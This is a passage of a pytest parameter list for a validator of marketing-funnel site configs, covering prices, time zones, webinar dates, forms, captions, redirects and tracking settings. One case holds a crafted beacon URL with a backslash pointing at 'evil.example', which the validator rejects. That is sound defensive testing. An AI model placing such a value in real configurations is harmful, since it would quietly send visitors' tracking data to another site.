            "funnels/tiny.yml:7: steps[0].price.amount: '19,99' is not a number: write digits only, with a point before the cents, as amount: 19.99",
            "funnels/tiny.yml:8: steps[0].price.compare_at: '$49' is not a number: write the amount alone, as compare_at: 49, and the currency as currency: USD",
            "funnels/tiny.yml:14: steps[1].price.amount: '49 USD' is not a number: write the amount alone, as amount: 49, and the currency as currency: USD",
            "funnels/tiny.yml:14: steps[1].price.plans[0].amount: '€19' is not a number: write the amount alone, as amount: 19, and the currency as currency: EUR",
            "funnels/tiny.yml:14: steps[1].price.plans[0].label: this is empty, and the page would show nothing in its place: write the text, or delete the line to show the default",
            "funnels/tiny.yml:20: steps[2].price.amount: '1.299,00' is not a number: write digits only, with a point before the cents, as amount: 1299.00",
        ],
        id="prices-written-with-a-comma-or-a-currency",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 19,99}")
            .replace("price: {amount: 97}", "price: {amount: 97, compare_at: 1,299}")},
        [
            "funnels/tiny.yml:6: steps[0].price.amount: '19,99' is read as amount: 19 and a key '99': write the number without a comma, as amount: 19.99",
            "funnels/tiny.yml:12: steps[1].price.compare_at: '1,299' is read as compare_at: 1 and a key '299': write the number without a comma, as compare_at: 1299",
        ],
        id="prices-with-a-comma-inside-braces",
    ),
    pytest.param(  # no "compare_at 1 is not higher than amount (27)": neither is the number written
        {T: sales().replace("price: {amount: 47}", "price: {amount: 27,50, compare_at: 1,370}")
            .replace("price: {amount: 97}", "price: {amount: 19,99, compare_at: 49,99}")  # not a duplicate key '99'
            .replace("price: {amount: 37}", "price: {amount: 1.299,00, compare_at: 2,370.50}"),
         "funnels/b.yml": sales().replace("price: {amount: 47}", "price: {amount: 1990, compare_at: 2,500,000}")},
        [
            "funnels/b.yml:6: steps[0].price.compare_at: '2,500,000' is read as compare_at: 2 and the keys '500' and '000': write the number without commas, as compare_at: 2500000",
            "funnels/tiny.yml:6: steps[0].price.amount: '27,50' is read as amount: 27 and a key '50': write the number without a comma, as amount: 27.50",
            "funnels/tiny.yml:6: steps[0].price.compare_at: '1,370' is read as compare_at: 1 and a key '370': write the number without a comma, as compare_at: 1370",
            "funnels/tiny.yml:12: steps[1].price.amount: '19,99' is read as amount: 19 and a key '99': write the number without a comma, as amount: 19.99",
            "funnels/tiny.yml:12: steps[1].price.compare_at: '49,99' is read as compare_at: 49 and a key '99': write the number without a comma, as compare_at: 49.99",
            "funnels/tiny.yml:18: steps[2].price.amount: '1.299,00' is read as amount: 1.299 and a key '00': write the number without a comma, as amount: 1299.00",
            "funnels/tiny.yml:18: steps[2].price.compare_at: '2,370.50' is read as compare_at: 2 and a key '370.50': write the number without a comma, as compare_at: 2370.50",
        ],
        id="amount-and-compare-at-with-a-comma-inside-braces",
    ),
    pytest.param(
        {T: sales().replace("accept: {checkout: https://buy.example/coaching}",
                            "accept: {checkout: https://buy.example/coaching, text: ''}")
            .replace("decline: {to: thanks}", "decline: {to: thanks, text: ' '}")
            .replace("    checkout: https://buy.example/course\n",
                     "    checkout: https://buy.example/course\n    guarantee: {title: '', text: Refunds for 30 days}\n"
                     "    video: {url: 'https://youtu.be/dQw4w9WgXcQ', title: ''}\n")},
        [
            "funnels/tiny.yml:8: steps[0].guarantee.title: this is empty, and the page would show nothing in its place: write the text, or delete the line to show the default",
            "funnels/tiny.yml:9: steps[0].video.title: this is empty, and the page would show nothing in its place: write the text, or delete the line to show the default",
            "funnels/tiny.yml:15: steps[1].accept.text: this is empty, and the page would show nothing in its place: write the text, or delete the line to show the default",
            "funnels/tiny.yml:22: steps[2].decline.text: this is empty, and the page would show nothing in its place: write the text, or delete the line to show the default",
        ],
        id="empty-button-and-heading-text",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("provider: custom\n      action: https://mail.example/subscribe",
                               "provider: netlify\n      hidden: {form-name: evil}"),
         "funnels/b.yml": FUNNEL_YML.replace("action: https://mail.example/subscribe",
                                             "action: https://mail.example/subscribe\n      carry: {temperature: email}"),
         "funnels/c.yml": FUNNEL_YML.replace("provider: custom\n      action: https://mail.example/subscribe",
                                             "provider: netlify\n      action: https://mail.example/x")},
        [
            "funnels/b.yml:6: steps[0].form: carry.temperature and fields[0] would both send a field named 'email', and the email tool would keep one; give one of them another name",
            "funnels/c.yml:6: steps[0].form: a netlify form posts to Netlify, never to action: remove action",
            "funnels/tiny.yml:6: steps[0].form: hidden.form-name and Netlify's form name would both send a field named 'form-name', and the email tool would keep one; give one of them another name",
        ],
        id="form-fields-that-share-a-name",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("title: Tiny funnel", "title: ''").replace("headline: Join the list", "headline: '   '")
         .replace("    form:\n", "    cta: {text: ''}\n    form:\n")},
        [
            "funnels/tiny.yml:1: title: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:5: steps[0].headline: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:6: steps[0].cta.text: this is empty, and the page would show nothing here: write the text",
        ],
        id="empty-text-a-page-must-show",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("headline: Join the list", 'headline: "\\u200b\\u00ad"')
         .replace("    form:\n", '    cta: {text: "\\u2060"}\n    form:\n')},
        [
            "funnels/tiny.yml:5: steps[0].headline: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:6: steps[0].cta.text: this is empty, and the page would show nothing here: write the text",
        ],
        id="text-of-only-invisible-characters-pasted-from-word",
    ),
    pytest.param(
        {T: JOIN.replace("    form:\n", "    benefits:\n      - Fast\n      - ''\n      -\n"
                                           "    by_temperature:\n      warm: {eyebrow: '', headline: '  '}\n"
                                           "    testimonials: [{quote: '', name: Ann}]\n"
                                           "    faq: [{question: ' ', answer: Sure}]\n    form:\n")
            + "      fields: [{name: email, type: email, label: ''}]\n" + THANKS + "    next_steps: [Open the email, '']\n"},
        [
            "funnels/tiny.yml:8: steps[0].benefits[1]: this item is empty, and the page would show an empty line in the list: write the text, or delete the line",
            "funnels/tiny.yml:9: steps[0].benefits[2]: this item is empty: write the text after '- ', or delete the line",
            "funnels/tiny.yml:11: steps[0].by_temperature.warm.eyebrow: this is empty, and visitors of this temperature would see nothing here: write the text, or delete the line to show them the base copy",
            "funnels/tiny.yml:11: steps[0].by_temperature.warm.headline: this is empty, and visitors of this temperature would see nothing here: write the text, or delete the line to show them the base copy",
            "funnels/tiny.yml:12: steps[0].testimonials[0].quote: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:13: steps[0].faq[0].question: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:17: steps[0].form.fields[0].label: this is empty, and the page would show nothing here: write the text",
            "funnels/tiny.yml:21: steps[1].next_steps[1]: this item is empty, and the page would show an empty line in the list: write the text, or delete the line",
        ],
        id="empty-items-of-lists-and-temperature-copy",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "brand: {font: 'Georgia\"'}\n"},
        [
            "site.yml:3: brand.font: 'Georgia\"' has a quote (\") that is never closed, which would break the page's whole stylesheet; close it or remove it",
        ],
        id="font-with-an-unclosed-quote",
    ),
    pytest.param(
        {T: "title: Loop\nsteps:\n  - {id: a, type: bridge, headline: A, next: b}\n"
            "  - {id: b, type: bridge, headline: B, next: a}\n  - {id: end, type: thankyou, headline: T}\n",
         "funnels/oto.yml": sales().replace("decline: {to: thanks}", "decline: {to: coaching}")},
        [
            "funnels/oto.yml:14: steps[1].decline.to: saying no to 'coaching' leads back to it (coaching → lite → coaching): point decline.to at a step that does not offer it again",
            "funnels/tiny.yml:3: steps[0].next: step 'a' never leads to the end of the funnel (a thank-you page, a checkout or another site): its steps lead back to each other; point next: at a later step",
            "funnels/tiny.yml:5: steps[2].id: step 'end' cannot be reached from the entry step 'a': point a next:, decline.to or links[].to at it",
        ],
        id="funnels-a-visitor-goes-round-forever",
    ),
    pytest.param(
        {T: sales().replace("    decline: {to: lite}\n", "    decline: {to: lite}\n    cta: {text: Sure}\n")
            .replace("    headline: Thank you\n", "    headline: Thank you\n    cta: {text: Go on}\n")},
        [
            "funnels/tiny.yml:15: steps[1].cta: upsell step 'coaching' shows no cta: its button is accept.text; move the text there",
            "funnels/tiny.yml:25: steps[3].cta: thank-you step 'thanks' has no next step for its cta button to lead to: add next: <step id>, or remove cta",
        ],
        id="a-cta-a-step-cannot-show",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 27.999, compare_at: 1e400}")
            .replace("price: {amount: 97}", "price: {amount: 0.125}"),
         "funnels/yen.yml": sales().replace("price: {amount: 47}", "price: {amount: 1999.5, currency: JPY}")},
        [
            "funnels/tiny.yml:6: steps[0].price.amount: 27.999 has three decimals: the point in a price marks the cents, never thousands; write 27999 (without a point) if that is what you meant, or 28.00 to the cent",
            "funnels/tiny.yml:6: steps[0].price.compare_at: 1E+400 is too large for a price: write 1,000,000,000 or less",
            "funnels/tiny.yml:12: steps[1].price.amount: 0.125 has more than two decimals: write the price to the cent, e.g. 0.12",
            "funnels/yen.yml:6: steps[0].price: JPY has no cents, so amount must be a whole number: write e.g. 2000",
        ],
        id="prices-a-checkout-would-not-take",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 12.3456, currency: KWD}")
            .replace("price: {amount: 97}", "price: {amount: 97, compare_at: 120.125, currency: OMR}")
            .replace("price: {amount: 37}", "price: {amount: 37.125, currency: EUR,\n"
                     "            plans: [{amount: 12.375, count: 3, checkout: https://buy.example/lite3}]}")},
        [  # three decimals in a currency of a thousand fils, two elsewhere, for a plan too
            "funnels/tiny.yml:6: steps[0].price.amount: 12.3456 has more than three decimals, the most KWD has: write e.g. 12.346",
            "funnels/tiny.yml:18: steps[2].price.amount: 37.125 has three decimals: the point in a price marks the cents, never thousands; write 37125 (without a point) if that is what you meant, or 37.12 to the cent",
            "funnels/tiny.yml:19: steps[2].price.plans[0].amount: 12.375 has three decimals: the point in a price marks the cents, never thousands; write 12375 (without a point) if that is what you meant, or 12.38 to the cent",
        ],
        id="prices-to-the-fils-in-kwd-to-the-cent-in-eur",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 2.500}")
            .replace("price: {amount: 97}", "price: {amount: 1.000, compare_at: 2.000, currency: EUR}")
            .replace("price: {amount: 37}", "price: {amount: 37, currency: CHF,\n"
                     "            plans: [{amount: 1.000, count: 3, checkout: https://buy.example/lite3}]}"),
         "funnels/kwd.yml": sales().replace("price: {amount: 47}", "price: {amount: 2.500, currency: KWD}")
            .replace("price: {amount: 97}", "price: {amount: 0.500}"),
         "funnels/quoted.yml": sales().replace("price: {amount: 47}", "price: {amount: '2.500'}")
            .replace("price: {amount: 97}", "price: {amount: 1.000, currency: JPY}")},
        [  # as a German or Swiss marketer types a price: YAML reads 2.5 (and 2.500 dinars are 2.5)
            "funnels/quoted.yml:6: steps[0].price.amount: 2.500 is read as 2.5: the point in a price marks the cents, never thousands; write 2500 (without a point) if that is what you meant, or 2.50",
            "funnels/quoted.yml:12: steps[1].price.amount: 1.000 is read as 1: the point in a price marks the cents, never thousands; write 1000 (without a point) if that is what you meant, or 1",
            "funnels/tiny.yml:6: steps[0].price.amount: 2.500 is read as 2.5: the point in a price marks the cents, never thousands; write 2500 (without a point) if that is what you meant, or 2.50",
            "funnels/tiny.yml:12: steps[1].price.amount: 1.000 is read as 1: the point in a price marks the cents, never thousands; write 1000 (without a point) if that is what you meant, or 1.00",
            "funnels/tiny.yml:12: steps[1].price.compare_at: 2.000 is read as 2: the point in a price marks the cents, never thousands; write 2000 (without a point) if that is what you meant, or 2.00",
            "funnels/tiny.yml:19: steps[2].price.plans[0].amount: 1.000 is read as 1: the point in a price marks the cents, never thousands; write 1000 (without a point) if that is what you meant, or 1.00",
        ],
        id="prices-with-a-point-between-thousands",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 297, compare_at: 1.500}"),
         "funnels/yen.yml": sales().replace("price: {amount: 47}", "price: {amount: 2.500, currency: JPY}")},
        [  # YAML read 1.5 and 2.5, which other checks refuse first: they say what was probably meant
            "funnels/tiny.yml:6: steps[0].price.compare_at: 1.5 is not higher than amount (297): compare_at is the regular price, shown struck through; if you meant 1500 (a point marks the cents, never thousands), write 1500; else write a higher one or leave compare_at out",
            "funnels/yen.yml:6: steps[0].price: JPY has no cents, so amount must be a whole number: if you meant 2500 (a point marks the cents, never thousands), write 2500; else write e.g. 2",
        ],
        id="prices-with-a-point-between-thousands-refused-for-another-reason",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: 47, compare_at: 40}")},
        [
            "funnels/tiny.yml:6: steps[0].price.compare_at: 40 is not higher than amount (47): compare_at is the regular price, shown struck through; write a higher one or leave compare_at out",
        ],
        id="compare-at-lower-than-amount",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: webinar").replace(
            "    form:\n",
            "    webinar: {starts: 2030-12-10 19:00, timezone: America/NewYork}\n    form:\n")},
        [
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'America/NewYork' is not a time zone: did you mean America/New_York?",
        ],
        id="webinar-unknown-time-zone",
    ),
    pytest.param(
        {T: webinar_with("America"), "funnels/b.yml": webinar_with("GMT+1"), "funnels/c.yml": webinar_with("x" * 300)},
        [
            "funnels/b.yml:6: steps[0].webinar.timezone: 'GMT+1' is not a time zone: use the zone of a place, such as Europe/Berlin, so that summer time is right",
            "funnels/c.yml:6: steps[0].webinar.timezone: '" + "x" * 57 + "...' is not a time zone: use a name such as America/New_York",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'America' is not a time zone: add the city, e.g. America/Adak",
        ],
        id="time-zone-that-is-a-folder-an-offset-or-too-long",
    ),
    pytest.param(
        {T: webinar_with("Brasília"), "funnels/b.yml": webinar_with("Brasília Time"), "funnels/c.yml": webinar_with("BRT")},
        [
            "funnels/b.yml:6: steps[0].webinar.timezone: 'Brasília Time' is not a time zone: write the place's zone, e.g. America/Sao_Paulo",
            "funnels/c.yml:6: steps[0].webinar.timezone: 'BRT' is an abbreviation, not a place: write the place's zone, e.g. America/Sao_Paulo",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'Brasília' is not a time zone: did you mean America/Sao_Paulo?",
        ],
        id="time-zone-written-with-its-accents",
    ),
    pytest.param(
        {T: webinar_with("MEZ").replace("starts: 2030-12-10 19:00", "starts: 10.12.2030 19:00"),
         "funnels/b.yml": webinar_with("Europe/Berlin").replace("starts: 2030-12-10 19:00", "starts: '10.12.2030'")},
        [  # as a German marketer writes the date and the zone
            "funnels/b.yml:6: steps[0].webinar.starts: expected a date and time such as 2030-12-10 19:00, got '10.12.2030': write 2030-12-10 and its time, e.g. 2030-12-10 19:00",
            "funnels/tiny.yml:6: steps[0].webinar.starts: expected a date and time such as 2030-12-10 19:00, got '10.12.2030 19:00': write 2030-12-10 19:00",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'MEZ' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. Europe/Paris, or your city's zone, e.g. Europe/Berlin",
        ],
        id="date-and-zone-written-the-german-way",
    ),
    pytest.param(
        {T: step_with("    video: {url: assets/tour.mp4, captions: assets/tour.srt}\n"),
         "funnels/b.yml": step_with("    video: {url: 'https://youtu.be/dQw4w9WgXcQ', captions: assets/tour.vtt}\n"),
         "assets/tour.mp4": "video", "assets/tour.vtt": "WEBVTT\n"},
        [  # browsers play WebVTT only, and show nothing of anything else, without a word
            "funnels/b.yml:9: steps[0].video.captions: YouTube and Vimeo show the captions added to the video there: add them there, and remove captions",
            "funnels/tiny.yml:9: steps[0].video.captions: 'assets/tour.srt' is not a WebVTT file, the only captions browsers play: name a .vtt file (an .srt file becomes one: write WEBVTT as its first line, a blank line after it, and a '.' instead of the ',' in each time)",
        ],
        id="video-captions-browsers-cannot-show",
    ),
    pytest.param(
        {T: step_with("    video: {url: assets/tour.mp4, captions: assets/renamed.vtt}\n"),
         "funnels/d.yml": step_with("    video: {url: assets/tour.mp4, captions: assets/missing.vtt}\n"),
         "assets/tour.mp4": "video", "assets/renamed.vtt": "1\n00:00:01,000 --> x\n"},
        [  # an .srt renamed .vtt
            "funnels/d.yml:9: steps[0].video.captions: no file 'assets/missing.vtt' in the site folder",
            "funnels/tiny.yml:9: steps[0].video.captions: 'assets/renamed.vtt' is not a WebVTT file: its first line must be WEBVTT (browsers show no captions from anything else); export the captions as WebVTT (.vtt)",
        ],
        id="video-captions-file-missing-or-not-webvtt",
    ),
    pytest.param(
        {T: webinar_with("PST"), "funnels/aest.yml": webinar_with("AEST"), "funnels/cst.yml": webinar_with("CST"),
         "funnels/edt.yml": webinar_with("edt"), "funnels/ist.yml": webinar_with("IST"),
         "funnels/cet.yml": webinar_with("CET")},
        [  # spelling alone said: MST?, EST?, UCT?, WET?, MST?: an event moved by hours
            "funnels/aest.yml:6: steps[0].webinar.timezone: 'AEST' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. Australia/Sydney (in Queensland: Australia/Brisbane)",
            "funnels/cet.yml:6: steps[0].webinar.timezone: 'CET' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. Europe/Paris, or your city's zone, e.g. Europe/Berlin",
            "funnels/cst.yml:6: steps[0].webinar.timezone: 'CST' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. America/Chicago (in China: Asia/Shanghai)",
            "funnels/edt.yml:6: steps[0].webinar.timezone: 'edt' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. America/New_York",
            "funnels/ist.yml:6: steps[0].webinar.timezone: 'IST' is an abbreviation, not a place: write the place's zone, e.g. Asia/Kolkata (in Ireland: Europe/Dublin; in Israel: Asia/Jerusalem)",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'PST' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. America/Los_Angeles",
        ],
        id="time-zone-abbreviation-says-the-place",
    ),
    pytest.param(
        {T: webinar_with("EST"), "funnels/est5edt.yml": webinar_with("EST5EDT"),
         "funnels/etc.yml": webinar_with("Etc/GMT+5"), "funnels/gmt.yml": webinar_with("GMT"),
         "funnels/hst.yml": webinar_with("HST"), "funnels/local.yml": webinar_with("localtime"),
         "funnels/mst.yml": webinar_with("MST")},
        [  # zones the database has, but of no place: 19:00 EST in July is 20:00 in New York
            "funnels/est5edt.yml:6: steps[0].webinar.timezone: 'EST5EDT' is a rule named after abbreviations, not a place: write the place's zone, e.g. America/New_York",
            "funnels/etc.yml:6: steps[0].webinar.timezone: 'Etc/GMT+5' is a fixed offset (UTC-5), not a place: use the zone of a place, such as Europe/Berlin, so that summer time is right",
            "funnels/gmt.yml:6: steps[0].webinar.timezone: 'GMT' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. Europe/London, or UTC",
            "funnels/hst.yml:6: steps[0].webinar.timezone: 'HST' is an abbreviation, not a place: write the place's zone, e.g. Pacific/Honolulu",
            "funnels/local.yml:6: steps[0].webinar.timezone: 'localtime' is the zone of the computer that builds the site, not a place: write the place's zone, e.g. America/New_York",
            "funnels/mst.yml:6: steps[0].webinar.timezone: 'MST' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. America/Denver (in Arizona: America/Phoenix)",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'EST' is an abbreviation, and it would be wrong half the year: write the place's zone, e.g. America/New_York",
        ],
        id="time-zone-of-a-fixed-offset-not-a-place",
    ),
    pytest.param(
        {T: webinar_with("Pacific Time"), "funnels/berlin.yml": webinar_with("Berlim"),
         "funnels/estt.yml": webinar_with("ESTT"), "funnels/mumbai.yml": webinar_with("Mumbai")},
        [  # spelling alone said: Pacific/Niue (UTC-11), EST, Cuba
            "funnels/berlin.yml:6: steps[0].webinar.timezone: 'Berlim' is not a time zone: did you mean Europe/Berlin?",
            "funnels/estt.yml:6: steps[0].webinar.timezone: 'ESTT' is not a time zone: use a name such as America/New_York",
            "funnels/mumbai.yml:6: steps[0].webinar.timezone: 'Mumbai' is not a time zone: did you mean Asia/Kolkata?",
            "funnels/tiny.yml:6: steps[0].webinar.timezone: 'Pacific Time' is not a time zone: write the place's zone, e.g. America/Los_Angeles",
        ],
        id="time-zone-unknown-is-told-a-place-not-a-spelling",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: webinar").replace(
            "    form:\n", "    webinar: {starts: 2027-03-14 02:30, timezone: America/New_York}\n    form:\n")},
        [
            "funnels/tiny.yml:6: steps[0].webinar: starts: 2027-03-14 02:30 does not exist in America/New_York: the clocks skip that hour that night; write 03:30 or another time",
        ],
        id="webinar-in-the-hour-summer-time-skips",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("    type: optin\n", "    type: optin\n    skip_for: [warm, hot]\n"
                                                    "    by_temperature: {hot: {headline: Welcome back}}\n")},
        [
            "funnels/tiny.yml:6: steps[0].by_temperature.hot: hot visitors skip step 'join' (skip_for), so its hot copy is never seen: remove it, or remove hot from skip_for (--strict)",
        ],
        ("--strict",),
        id="copy-for-visitors-who-skip-the-step",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: webinar").replace(
            "    form:\n", "    webinar: {starts: 2020-12-10 19:00, timezone: America/New_York}\n"
                          "    deadline: {text: Seats go fast, until: '2020-12-04T23:59:00-05:00'}\n    form:\n")},
        [
            "funnels/tiny.yml:6: steps[0].webinar.starts: 2020-12-10 19:00 (America/New_York) is past: the page invites visitors to a webinar that has started; write its next date (--strict)",
            "funnels/tiny.yml:7: steps[0].deadline.until: 2020-12-04T23:59:00-05:00 is past: the page announces a deadline that is over; write a later date, or remove the deadline (--strict)",
        ],
        ("--strict",),
        id="webinar-and-deadline-in-the-past-are-warnings",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: webinar").replace(
            "    form:\n",
            "    webinar: {starts: 2030-12-10, timezone: America/New_York}\n    form:\n")},
        [
            "funnels/tiny.yml:6: steps[0].webinar.starts: 2030-12-10 has no time: add the local start time, e.g. 2030-12-10 19:00",
        ],
        id="webinar-without-start-time",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("type: optin", "type: webinar").replace(
            "    form:\n",
            "    webinar: {starts: 1700000000, timezone: America/New_York}\n    form:\n")},
        [
            "funnels/tiny.yml:6: steps[0].webinar.starts: expected a date and time such as 2030-12-10 19:00, got 1700000000",
        ],
        id="webinar-start-as-a-number",
    ),
    pytest.param(
        {T: step_with("      fields:\n        - {name: first_name, label: First name}\n")},
        [
            "funnels/tiny.yml:9: steps[0].form.fields: no field collects the email address: add one with type: email, e.g. - {name: email, type: email, label: Email}",
        ],
        id="form-without-email-field",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("provider: custom", "provider: mailchimp").replace(
            "      action: https://mail.example/subscribe\n", "")},
        [
            "funnels/tiny.yml:6: steps[0].form: a form with provider 'mailchimp' needs action: the post URL from mailchimp",
        ],
        id="mailchimp-form-without-action",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("provider: custom", "provider: mailchump")},
        [
            "funnels/tiny.yml:7: steps[0].form.provider: 'mailchump' is not allowed here: did you mean 'mailchimp'? Or write 'convertkit', 'mailchimp', 'activecampaign', 'netlify' or 'custom'",
        ],
        id="unknown-form-provider",
    ),
    pytest.param(
        {T: step_with("      fields:\n        - {name: email, type: email, label: Email}\n"
                      "        - {name: email, label: Work email}\n")},
        [
            "funnels/tiny.yml:9: steps[0].form.fields: field name 'email' is used twice; give each field its own name",
        ],
        id="form-field-name-twice",
    ),
    pytest.param(
        {T: step_with("    by_temperature:\n      lukewarm: {headline: Welcome back}\n")},
        [
            "funnels/tiny.yml:10: steps[0].by_temperature.lukewarm: 'lukewarm' is not allowed here: did you mean 'warm'? Or write 'cold', 'warm' or 'hot'",
        ],
        id="unknown-temperature",
    ),
    pytest.param(
        {T: step_with("    deadline: {text: Doors close Friday, until: 2030-12-06 23:59:00}\n")},
        [
            "funnels/tiny.yml:9: steps[0].deadline.until: add its time zone offset, e.g. 2030-12-06T23:59:00-05:00 for New York on that date, 2030-12-06T23:59:00+01:00 for Berlin or Paris, or 2030-12-06T23:59:00Z for UTC",
        ],
        id="deadline-without-time-zone",
    ),
    pytest.param(  # summer time: the offsets of that day
        {T: step_with("    deadline: {text: Doors close Friday, until: 2030-07-12 23:59}\n")},
        [
            "funnels/tiny.yml:9: steps[0].deadline.until: add its time zone offset, e.g. 2030-07-12T23:59:00-04:00 for New York on that date, 2030-07-12T23:59:00+02:00 for Berlin or Paris, or 2030-07-12T23:59:00Z for UTC",
        ],
        id="deadline-without-time-zone-in-summer",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "hosting:\n  redirects:\n    - {from: /anmeldung-für-webinar, to: /tiny/}\n"
                                "    - {from: /Straße, to: /tiny/}\n    - {from: /日本/, to: /tiny/}\n"},
        [
            "site.yml:5: hosting.redirects[0].from: '/anmeldung-für-webinar' is not in the expected form: a site path starting with /, of Latin letters, digits, '-', '_' and '.', e.g. /go/webinar; write '/anmeldung-fur-webinar'",
            "site.yml:6: hosting.redirects[1].from: '/Straße' is not in the expected form: a site path starting with /, of Latin letters, digits, '-', '_' and '.', e.g. /go/webinar; write '/strasse'",
            "site.yml:7: hosting.redirects[2].from: '/日本/' is not in the expected form: a site path starting with /, of Latin letters, digits, '-', '_' and '.', e.g. /go/webinar",
        ],
        id="redirect-from-a-path-with-accents",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: -47}")},
        [
            "funnels/tiny.yml:6: steps[0].price.amount: -47 is too small: write 0 or more",
        ],
        id="negative-price",
    ),
    pytest.param(
        {T: sales().replace("price: {amount: 47}", "price: {amount: .nan}")},
        [
            "funnels/tiny.yml:6: steps[0].price.amount: expected a number, got .nan",
        ],
        id="price-not-a-number",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "tracking:\n  meta_pixel: {pixel_id: my-pixel}\n"},
        [
            "site.yml:4: tracking.meta_pixel.pixel_id: 'my-pixel' is not in the expected form: digits only, e.g. 123456789012345",
        ],
        id="pattern-said-in-words",
    ),
    pytest.param(
        {"funnels/a.yml": "title: A\nsteps:\n  - id: join\n    type: optin\n    headline: Join\n"
                          "    form: {provider: netlify, name: tiny-join}\n  - id: thanks\n    type: thankyou\n"
                          "    headline: Thanks\n",
         T: FUNNEL_YML.replace("provider: custom\n      action: https://mail.example/subscribe", "provider: netlify")},
        [
            "funnels/tiny.yml:6: steps[0].form: Netlify form name 'tiny-join' is already used by funnels/a.yml steps[0]: Netlify would mix their sign-ups; give this form its own name (form: {name: …})",
        ],
        id="two-netlify-forms-one-name",
    ),
    pytest.param(
        {T: FUNNEL_YML.replace("    headline: Join the list\n", "    headline: Join the list\n    next: nope\n"),
         "funnels/z.yml": "title: Z\nsteps:\n  - id: story\n    type: bridge\n    headline: Read\n"
                          "    body_file: content/missing.md\n  - id: thanks\n    type: thankyou\n    headline: Thanks\n"},
        [
            "funnels/tiny.yml:6: steps[0].next: no step 'nope' in this funnel (steps: join, thanks)",
            "funnels/z.yml:6: steps[0].body_file: no file 'content/missing.md' in the site folder",
        ],
        id="a-flow-problem-and-a-missing-body-file-in-one-run",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "tracking:\n  beacon: {url: 'mailto:me@tiny.example'}\n"},
        [
            "site.yml:4: tracking.beacon.url: 'mailto:me@tiny.example' must be a full https:// URL or a site path such as /api/events",
        ],
        id="beacon-to-an-email-address",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "tracking:\n  beacon: {url: 'http://collect.example/e'}\n"},
        [
            "site.yml:4: tracking.beacon.url: 'http://collect.example/e' is not secure: write 'https://collect.example/e' instead",
        ],
        id="beacon-not-secure",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "tracking:\n  beacon: {url: '/\\evil.example/collect'}\n"},
        [
            "site.yml:4: tracking.beacon.url: '/\\evil.example/collect' contains a backslash (\\); write / instead",
        ],
        id="backslash-leads-to-another-site",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "temperature:\n  rules:\n    - {temperature: hot, when: {}}\n"
                                "    - {temperature: warm, when: {utm_source: []}}\n"
                                "    - {temperature: warm, when: {any: []}}\n"},
        [
            "site.yml:5: temperature.rules[0].when: an empty condition matches every visitor: give it a key such as utm_source: newsletter (to give everyone a temperature, set default: instead)",
            "site.yml:6: temperature.rules[1].when.utm_source: an empty list matches no visitor: list values in it, or remove the key",
            "site.yml:7: temperature.rules[2].when.any: an empty list matches no visitor: list values in it, or remove the key",
        ],
        id="temperature-rules-that-match-everyone-or-no-one",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "temperature:\n  rules:\n    - {temperature: hot, when: {utm_medium: email, param: {}}}\n"
                                "    - {temperature: warm, when: {param: {}}}\n"},
        [
            "site.yml:5: temperature.rules[0].when.param: names no parameter, so it checks nothing: write a parameter and its values, e.g. param: {ref: vip}, or remove the key",
            "site.yml:6: temperature.rules[1].when.param: names no parameter, so it checks nothing: write a parameter and its values, e.g. param: {ref: vip}, or remove the key",
        ],
        id="temperature-rule-param-with-no-parameter",
    ),
    pytest.param(
        {"site.yml": SITE_YML + "consent: {mode: banner}\ntracking: {head: '  ', body: ''}\n"},
        [
            "site.yml:3: consent: the banner asks visitors' consent for nothing: no analytics provider is configured (tracking: ga4, meta_pixel, plausible, beacon, head or body); remove consent, or add a provider (--strict)",
        ],
        ("--strict",),
        id="consent-banner-with-no-analytics-is-a-warning",
    ),
    pytest.param(
        {T: sales().replace("    checkout: https://buy.example/course\n",
                            "    checkout: https://buy.example/course\n    skip_for: [hot]\n")},
        [
            "funnels/tiny.yml:8: steps[0].skip_for: offer step 'offer' cannot be skipped: its next step is where the checkout returns after payment; use skip_for on the steps before it",
        ],
        id="skipping-the-offer-would-skip-the-payment",
    ),
    pytest.param(
